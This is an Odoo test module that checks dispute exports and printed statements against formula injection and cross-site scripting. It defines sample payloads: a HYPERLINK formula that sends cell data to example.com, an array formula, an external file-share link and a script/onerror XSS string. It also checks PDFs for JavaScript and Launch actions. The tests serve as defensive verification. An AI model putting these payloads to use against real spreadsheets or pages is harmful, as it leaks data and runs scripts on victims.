import io
import json

import openpyxl

from odoo import http
from odoo.tests import new_test_user, tagged
from odoo.tools.pdf import PdfReader

from .answer_common import AnswerCommon

#: What a customer may type, and a spreadsheet would calculate or open.
FORMULA = '=HYPERLINK("http://example.com?"&A1,"Click")'
ARRAY = "{=SUM(A1:A2)}"
LINK = "external:\\\\example.com\\share\\x.xlsx"
SCRIPT = "<script>document.title='run'</script><img src=x onerror='alert(1)'>"


@tagged("post_install", "-at_install")
class TestExports(AnswerCommon):
    """What customers typed is text in every file that is made of it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.exporter = new_test_user(
            cls.env,
            login="exporter",
            password="exporter",
            groups="dispute_management.group_dispute_user,base.group_allow_export",
        )

    def _export(self, fields, groupby=(), kind="xlsx", model="dispute.case", ids=None):
        """:return: what Odoo's own list exports"""
        model_fields = self.env[model]._fields
        self._login(self.exporter)
        data = {
            "model": model,
            "fields": [
                {"name": name, "label": name, "store": True, "type": model_fields[name.split("/")[0]].type}
                for name in fields
            ],
            "ids": ids or [],
            "domain": [("id", "in", self._get_cases(self.invoice).ids)] if not ids else [],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def _get_cells(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]

    def _check_plain(self, content, *texts):
        cells = self._get_cells(content)
        self.assertFalse([cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink])
        values = [str(cell.value).partition(" (")[0] for cell in cells]
        for text in texts:
            self.assertIn(f"'{text}", values)

    def test_lists_of_disputes(self):
        self._login(self.anna)
        self._post_form(self.invoice, customer_reference=FORMULA, description=ARRAY)
        fields = ["name", "customer_reference", "description", "line_ids/case_id/customer_reference"]
        self._check_plain(self._export(fields), FORMULA, ARRAY)
        self._check_plain(self._export(fields, groupby=["customer_reference"]), FORMULA, ARRAY)
        rows = self._export(fields, kind="csv").decode()
        self.assertIn(f'''"'{FORMULA.replace('"', '""')}"''', rows)

    def test_links_to_files(self):
        self._login(self.anna)
        self._post_form(self.invoice, customer_reference=LINK)
        self._check_plain(self._export(["name", "customer_reference"]), LINK)

    def test_answers_to_offers(self):
        offer = self._offer()
        self._login(self.anna)
        self._act("decline", f"/statements/{offer.id}", text=FORMULA)
        self.assertEqual(offer.answer_text, FORMULA)
        content = self._export(["case_id/name", "answer_text"], model="dispute.settlement", ids=offer.ids)
        self._check_plain(content, FORMULA)

    def test_lists_of_others_stay_as_they_are(self):
        self.exporter.partner_id.name = "=1+1"
        content = self._export(["name"], model="res.partner", ids=self.exporter.partner_id.ids)
        self.assertEqual([cell.value for cell in self._get_cells(content)], ["name", "=1+1"])

    def test_scripts_in_the_statement(self):
        self._login(self.anna)
        self._post_form(self.invoice, customer_reference=SCRIPT[:90], description=SCRIPT)
        case = self._get_cases(self.invoice) - self.case
        case.write({"user_id": self.owner.id, "team_id": self.team.id})
        case.cause_id = self.env.ref("dispute_management.dispute_cause_unk")
        settlement = self._settle(("rejection", 100), case=case, resolution="rej", propose=False)
        settlement.reason_text = SCRIPT
        values = settlement._get_statement_values()
        page = str(
            self.env["ir.qweb"]._render("dispute_management.report_statement_page", {"values": values})
        )
        self.assertIn("&lt;script&gt;", page)
        self.assertNotIn(SCRIPT[:8], page.lower())
        self.assertNotIn("<img src=x", page.lower())
        if self.env["dispute.case.file"]._can_print():
            content, extension = settlement._print_statement()
            self.assertEqual(extension, "pdf")
            self._check_pdf(content)

    def _check_pdf(self, content):
        reader = PdfReader(io.BytesIO(content))
        text = " ".join(page.extract_text() for page in reader.pages)
        self.assertIn("<script>", text.replace("\n", ""))
        for name in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction"):
            self.assertNotIn(name, content)
